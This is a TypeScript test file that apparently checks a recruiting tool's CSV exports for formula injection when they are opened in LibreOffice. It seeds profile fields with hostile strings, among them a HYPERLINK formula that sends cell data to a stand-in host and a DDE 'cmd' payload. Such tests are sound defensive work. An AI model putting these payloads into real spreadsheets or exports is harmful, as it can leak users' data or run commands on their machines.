import { join } from "node:path";
import { describe, expect, it } from "vitest";
import { withCli } from "../support/test-cli.ts";
import { openInSpreadsheet, spreadsheetVersion } from "./open-in-spreadsheet.ts";

const version = spreadsheetVersion();
if (version === null) console.warn("There is no `soffice` on this machine: LibreOffice is not tried.");

/** Texts as they may stand in somebody's profile. */
const HOSTILE = [
  '=HYPERLINK("http://example.invalid/"&A1,"click")',
  "=1+1",
  "+1+1",
  "-1+1",
  "@SUM(A1:A9)",
  "＝1+1",
  "＋1+1",
  "－1+1",
  "＠SUM(A1)",
  "\t=1+1",
  "\r=1+1",
  "\n=1+1",
  "  =1+1",
  "\u00a0=1+1",
  "\u200b=1+1",
  "'=1+1",
  '"=1+1',
  "a;=1+1",
  'a;"=1+1;',
  "a\t=1+1",
  "a\n=1+1",
  "a\r\n =1+1",
  ",=1+1",
  "=cmd|'/c calc'!A0",
  "plain",
];

describe.skipIf(version === null)(`an export opened in ${version}`, () => {
  it.each([",", ";", "\t", ",;\t"])("shows texts and no formulas, separated by %j", async (separators) => {
    await withHostilePeople(async (exportTo) => {
      for (const format of ["csv", "greenhouse", "hubspot"]) {
        const cells = await openInSpreadsheet(await exportTo(["--for", format]), separators);
        expect(cells.length).toBeGreaterThan(HOSTILE.length);
        expect(cells.filter(({ formula, type }) => formula !== null || type === "error")).toEqual([]);
      }
    });
  });

  it("shows formulas where the guard is off, so that they would be seen here", async () => {
    await withHostilePeople(async (exportTo) => {
      const cells = await openInSpreadsheet(await exportTo(["--raw"]), ",");
      expect(cells.map(({ formula }) => formula)).toContain("of:=1+1");
    });
  });
});

/** Lends a machine on which every text above stands in the fields of a person, by the way to export from it. */
async function withHostilePeople(
  use: (exportTo: (options: string[]) => Promise<string>) => Promise<void>,
): Promise<void> {
  await withCli({}, async ({ database: { db }, folder, sourcing }) => {
    await db.pool.query(
      `insert into profiles (profile_id, full_name, first_name, last_name, headline, location, current_title,
         current_company, linkedin_url, skills)
       select text, text, text, text, text, text, text, text, text, array[text] from unnest($1::text[]) as text`,
      [HOSTILE],
    );
    await db.pool.query(
      `insert into contacts (profile_id, kind, value)
       select text, 'email', '=x' || place || '@x.example' from unnest($1::text[]) with ordinality as one(text, place)`,
      [HOSTILE],
    );
    await use(async (options) => {
      const name = `${options.join("")}.csv`;
      expect(await sourcing(["export", ...options, "--out", name])).toMatchObject({ code: 0 });
      return join(folder, name);
    });
  });
}
